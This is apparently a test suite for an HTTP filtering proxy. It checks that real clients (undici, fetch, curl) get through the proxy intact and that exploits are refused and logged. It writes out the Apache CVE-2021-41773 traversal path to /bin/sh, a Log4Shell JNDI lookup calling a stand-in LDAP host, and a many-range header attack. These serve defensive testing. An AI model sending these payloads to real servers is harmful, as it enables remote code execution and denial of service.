// SPDX-License-Identifier: Apache-2.0
// clients: what real HTTP clients do (undici, Node's fetch, curl), before a server that says what reached it.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { Readable } from "node:stream";
import test from "node:test";
import { promisify } from "node:util";
import zlib from "node:zlib";
import { Client, FormData, Pool, WebSocket, fetch, request } from "undici";
import { conforms, request as get, root, scratch, write } from "../cli/tool.mjs";
import { BIG, configured, connect, digest, echo, origin, raw, shield, statuses } from "./servers.mjs";

const exploit = "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"; // CVE-2021-41773
const lookup = "${jndi:ldap://b.example/x}"; // CVE-2021-44228
const octets = { "content-type": "application/octet-stream" }; // a body that no patch reads
const json = { "content-type": "application/json" };
const curl = async (...args) => (await promisify(execFile)("curl", ["-sS", "--max-time", "60", ...args])).stdout;

/** Refuses the word "evil" as the value of a member of JSON or of a form's field. */
const reads = `
patch: TEST-0003
title: A word that the test server cannot bear
severity: high
protocol: http
when: http.request.body.json["last"] == "evil" or http.request.body.form["last"] == "evil"
then: refuse 403
cases:
  - {send: "POST / HTTP/1.1\\r\\nHost: a\\r\\nContent-Type: application/json\\r\\nContent-Length: 15\\r\\n\\r\\n{\\"last\\":\\"evil\\"}", expect: refuse}
  - {send: "POST / HTTP/1.1\\r\\nHost: a\\r\\nContent-Type: application/json\\r\\nContent-Length: 15\\r\\n\\r\\n{\\"last\\":\\"good\\"}", expect: pass}
`;

/** `bytes` of random octets, a piece at a time; `hash` knows them all at the end. */
function octetStream(bytes) {
  const hash = crypto.createHash("sha256");
  const piece = crypto.randomBytes(1 << 16);
  const stream = Readable.from((function* () {
    for (let at = 0; at < bytes; at += piece.length) {
      piece.writeUInt32LE(at, 0);
      hash.update(piece);
      yield Buffer.from(piece);
    }
  })());
  return { stream, hash };
}

test("undici, 10 requests in the pipe: every answer is its request's, refusals among them", async (t) => {
  const { server, port } = await echo(t);
  let connections = 0;
  server.on("connection", () => connections++);
  const gate = await shield(t, port);
  const client = new Client(gate.url, { pipelining: 10 });
  t.after(() => client.destroy());
  const targets = Array.from({ length: 200 }, (_, i) => (i % 7 === 3 ? `${exploit}?${i}` : `/page/${i}`));
  const answers = await Promise.all(targets.map(async (path) => {
    const { statusCode, body } = await client.request({ path, method: "GET" });
    return [statusCode, statusCode === 200 ? (await body.json()).url : (await body.dump(), path)];
  }));
  assert.deepEqual(answers, targets.map((path) => [path.startsWith(exploit) ? 400 : 200, path]));
  assert.equal(connections, 1);
});

test("undici, a pool of 500 connections at once", async (t) => {
  const all = 500, waiting = [];
  const { port } = await origin(t, (req, res) => {
    waiting.push(() => res.end(req.url));
    if (waiting.length === all) for (const answer of waiting) answer(); // only when every one of them is here
  });
  const gate = await shield(t, port);
  const pool = new Pool(gate.url, { connections: all, pipelining: 1 });
  t.after(() => pool.destroy());
  const bodies = await Promise.all(Array.from({ length: all }, async (_, i) => (await pool.request({ path: `/${i}`, method: "GET" })).body.text()));
  assert.deepEqual(bodies, Array.from({ length: all }, (_, i) => `/${i}`));
});

test("undici, 64 MiB up in chunks: the same bytes arrive", async (t) => {
  const { port } = await echo(t);
  const gate = await shield(t, port);
  const { stream, hash } = octetStream(BIG);
  const { body } = await request(gate.url, { method: "PUT", headers: octets, body: stream });
  const seen = await body.json();
  assert.deepEqual([seen.length, seen.digest, seen.headers["transfer-encoding"]], [BIG, hash.digest("hex"), "chunked"]);
});

test("fetch, 64 MiB down in chunks: the same bytes arrive", async (t) => {
  const sent = octetStream(BIG), got = crypto.createHash("sha256");
  const { port } = await origin(t, (_, res) => sent.stream.pipe(res));
  const gate = await shield(t, port);
  for await (const bytes of (await fetch(gate.url)).body) got.update(bytes);
  assert.equal(got.digest("hex"), sent.hash.digest("hex"));
});

for (const [kind, body] of Object.entries({
  JSON: (last) => [json, JSON.stringify({ first: "x".repeat(17 << 20), last })],
  form: (last) => [{ "content-type": "application/x-www-form-urlencoded" }, `first=${"x".repeat(17 << 20)}&last=${last}`],
}))
  test(`17 MiB of ${kind} that a rule reads: delivered byte for byte, or refused for the last of them`, async (t) => {
    const { port } = await echo(t);
    const gate = await configured(t, port, "body_max: 32MiB", { rules: reads });
    const [headers, good] = body("good");
    const seen = await (await fetch(gate.url, { method: "POST", headers, body: good })).json();
    assert.deepEqual([seen.length, seen.digest], [good.length, digest(good)]);
    assert.equal((await fetch(gate.url, { method: "POST", headers, body: body("evil")[1] })).status, 403);
  });

test("gzipped JSON is read; what is harmless arrives gzipped as it was", async (t) => {
  const { port } = await echo(t);
  const gate = await shield(t, port);
  const post = (value) => fetch(`${gate.url}/api`, { method: "POST", headers: { ...json, "content-encoding": "gzip" }, body: value });
  const good = zlib.gzipSync(JSON.stringify({ name: "a harmless value" }));
  const seen = await (await post(good)).json();
  assert.deepEqual([seen.digest, seen.headers["content-encoding"]], [digest(good), "gzip"]);
  assert.equal((await post(zlib.gzipSync(JSON.stringify({ name: lookup })))).status, 400);
  assert.equal((await gate.told((e) => e.alert)).sallyport.rule, "CVE-2021-44228");
});

test("a form with a file, as fetch writes it", async (t) => {
  const { port } = await echo(t);
  const gate = await shield(t, port);
  const post = (title) => {
    const form = new FormData();
    form.append("title", title);
    form.append("file", new Blob([crypto.randomBytes(300000)]), "a.bin");
    return fetch(gate.url, { method: "POST", body: form });
  };
  const answer = await post("holiday");
  assert.equal(answer.status, 200);
  assert.ok((await answer.json()).length > 300000);
  assert.equal((await post(lookup)).status, 400);
});

test("curl waits for 100 Continue: bodies that are read, that flow, that are refused for their head or for themselves", async (t) => {
  const { server, port } = await echo(t);
  const gate = await shield(t, port);
  const file = write(scratch(t), "body", JSON.stringify({ a: "x".repeat(100000) }));
  const evil = write(scratch(t), "body", JSON.stringify({ a: "x".repeat(100000), b: lookup }));
  const send = async (target, type, body) => {
    const args = ["--expect100-timeout", "30", "-H", "Expect: 100-continue", "-H", `Content-Type: ${type}`, "--data-binary", `@${body}`];
    const started = Date.now();
    const status = await curl(...args, "-o", "/dev/null", "-w", "%{http_code} %{size_upload}", gate.url + target);
    assert.ok(Date.now() - started < 20000, "curl got tired of waiting");
    return status;
  };
  const whole = fs.statSync(file).size;
  assert.equal(await send("/", "application/json", file), `200 ${whole}`);
  assert.equal(await send("/", "application/octet-stream", file), `200 ${whole}`);
  let asked = 0;
  server.on("request", () => asked++);
  assert.equal(await send(exploit, "application/octet-stream", file), "400 0"); // nothing was sent in vain
  assert.equal(await send("/", "application/json", evil), `400 ${fs.statSync(evil).size}`);
  assert.equal(asked, 0);
});

test("a correction: the server is asked without the ranges, everything else as it was", async (t) => {
  const { port } = await echo(t);
  const gate = await shield(t, port);
  const ranges = (n) => "bytes=" + Array.from({ length: n }, (_, i) => `${2 * i}-${2 * i}`).join(",");
  const ask = async (range) => (await request(`${gate.url}/file?a=b`, { headers: { "x-before": "1", range, "x-after": "2" } })).body.json();
  const kept = await ask(ranges(3)), corrected = await ask(ranges(30));
  assert.equal(kept.headers.range, ranges(3));
  delete kept.headers.range;
  assert.deepEqual(corrected, kept);
  const event = await gate.told((e) => e.alert);
  assert.deepEqual([event.sallyport.rule, event.sallyport.verdict, event.alert.action], ["CVE-2011-3192", "correct", "allowed"]);
});

test("a refused response is told with what it said, not with what stands in its place", async (t) => {
  const { port } = await origin(t, (_, reply) => reply.setHeader("X-Leak", "inner-value").end("ok"));
  const leak = `
patch: TEST-0004
title: An answer that says too much
severity: low
protocol: http
when: http.response.headers["x-leak"] contains "inner"
then: refuse 502
cases:
  - {send: "GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n", reply: "HTTP/1.1 200 OK\\r\\nX-Leak: inner\\r\\nContent-Length: 0\\r\\n\\r\\n", expect: refuse}
  - {send: "GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n", reply: "HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n", expect: pass}
`;
  const gate = await shield(t, port, "--rules", write(scratch(t), "leak.yaml", leak));
  assert.equal((await request(gate.url)).statusCode, 502);
  const { sallyport } = await gate.told((e) => e.sallyport.rule === "TEST-0004");
  assert.deepEqual([sallyport.field, sallyport.before], ['http.response.headers["X-Leak"]', "inner-value"]);
});

test("--monitor tells what would be done and does nothing", async (t) => {
  const { port } = await echo(t);
  const gate = await shield(t, port, "--monitor");
  const range = "bytes=" + Array.from({ length: 30 }, (_, i) => `${2 * i}-${2 * i}`).join(",");
  const client = new Client(gate.url);
  t.after(() => client.destroy());
  const seen = await (await client.request({ path: exploit, method: "GET", headers: { range } })).body.json();
  assert.deepEqual([seen.url, seen.headers.range], [exploit, range]);
  for (const rule of ["CVE-2021-41773", "CVE-2011-3192"]) {
    const event = await gate.told((e) => e.sallyport.rule === rule);
    assert.equal(event.alert.action, "allowed");
  }
});

test("events: every refusal is a line by the schema, without the password that it is about", async (t) => {
  const { port } = await echo(t);
  const gate = await shield(t, port);
  const secret = Buffer.from(`${lookup}:hunter2`).toString("base64");
  const client = new Client(gate.url); // URLs would lose their dots
  t.after(() => client.destroy());
  for (const [path, headers] of [["/in", { authorization: `Basic ${secret}` }], [exploit, {}], ["/", { "user-agent": lookup }]]) {
    const { statusCode, body } = await client.request({ path, method: "GET", headers });
    assert.equal(statusCode, 400);
    await body.dump();
  }
  await gate.told((e) => e.http.http_user_agent === lookup);
  const schema = JSON.parse(fs.readFileSync(path.join(root, "docs/event.schema.json"), "utf8"));
  assert.equal(gate.lines().length, 3);
  for (const event of gate.lines()) {
    conforms(assert, event, schema);
    assert.deepEqual([event.sallyport.verdict, event.alert.action], ["refuse", "blocked"]);
  }
  const about = await gate.told((e) => e.http.url === "/in");
  assert.equal(about.sallyport.rule, "CVE-2021-44228");
  for (const word of [secret, "hunter2", "jndi"]) assert.ok(!JSON.stringify(about).includes(word), JSON.stringify(about));
});

/** The server's half of RFC 6455, for text of less than 126 bytes: sends everything back, with a word before it. */
function talkFrames(socket, key) {
  const accept = crypto.createHash("sha1").update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest("base64");
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  const frame = (opcode, body) => socket.write(Buffer.concat([Buffer.from([0x80 | opcode, body.length]), body]));
  let held = Buffer.alloc(0);
  socket.on("data", (bytes) => {
    held = Buffer.concat([held, bytes]);
    while (held.length >= 6 && held.length >= 6 + (held[1] & 127)) {
      const length = held[1] & 127, opcode = held[0] & 15, mask = held.subarray(2, 6);
      const body = Buffer.from(held.subarray(6, 6 + length).map((byte, i) => byte ^ mask[i & 3]));
      held = held.subarray(6 + length);
      if (opcode === 1) frame(1, Buffer.concat([Buffer.from("you said: "), body]));
      else if (opcode === 8) frame(8, body), socket.end();
    }
  }).on("error", () => {});
}

test("a websocket of undici: handshake, frames both ways, close; an exploit in the handshake is refused", async (t) => {
  const { server, port } = await origin(t, (_, res) => res.end());
  server.on("upgrade", (req, socket) => talkFrames(socket, req.headers["sec-websocket-key"]));
  const gate = await shield(t, port);
  const socket = new WebSocket(`ws://127.0.0.1:${gate.port}/chat`);
  const event = (on, name) => new Promise((came, failed) => (on.addEventListener(name, came), on.addEventListener("error", failed)));
  await event(socket, "open");
  for (const text of ["first", `GET ${exploit} HTTP/1.1`, "last"]) {
    socket.send(text);
    assert.equal((await event(socket, "message")).data, `you said: ${text}`);
  }
  const closed = event(socket, "close");
  socket.close(1000, "done");
  assert.deepEqual([(await closed).code, (await closed).reason], [1000, "done"]);
  const refused = new WebSocket(`ws://127.0.0.1:${gate.port}/chat?as=${lookup}`);
  await assert.rejects(event(refused, "open"));
});

test("HEAD, 204, 304: no body is waited for, and the next answer is the next request's", async (t) => {
  const answers = {
    "/head": "HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n",
    "/204": "HTTP/1.1 204 No Content\r\n\r\n",
    "/304": 'HTTP/1.1 304 Not Modified\r\nETag: "x"\r\nContent-Length: 1000\r\n\r\n',
    "/end": "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nend",
  };
  const { port } = await raw(t, (socket) => {
    let text = "";
    socket.setEncoding("latin1").on("data", (more) => {
      for (text += more; text.includes("\r\n\r\n"); text = text.slice(text.indexOf("\r\n\r\n") + 4)) socket.write(answers[text.split(" ")[1]]);
    });
  });
  const gate = await shield(t, port);
  const client = connect(gate.port);
  client.socket.write(get("/head").replace("GET", "HEAD") + get("/204") + get("/304") + get("/end"));
  const back = await client.until((c) => c.back.endsWith("end"));
  assert.deepEqual(statuses(back), [200, 204, 304, 200]);
  assert.equal(back, Object.values(answers).join(""));
  client.socket.destroy();
});

test("HTTP/1.0: an answer without a length ends with the connection; keep-alive where it is asked for", async (t) => {
  const { port } = await raw(t, (socket) => socket.once("data", () => socket.end("HTTP/1.0 200 OK\r\n\r\nall of it")));
  const gate = await shield(t, port);
  const old = connect(gate.port);
  old.socket.write("GET / HTTP/1.0\r\n\r\n");
  assert.match(await old.until((c) => c.ended), /\r\n\r\nall of it$/);
  const { port: second } = await origin(t, (req, res) => res.setHeader("Content-Length", 4).end(`${req.httpVersion}\n`));
  const kept = await shield(t, second);
  const client = connect(kept.port);
  for (const n of [1, 2, 3]) {
    client.socket.write("GET / HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n\r\n");
    await client.until((c) => statuses(c.back).length === n && c.back.endsWith("1.0\n"));
  }
  client.socket.destroy();
});
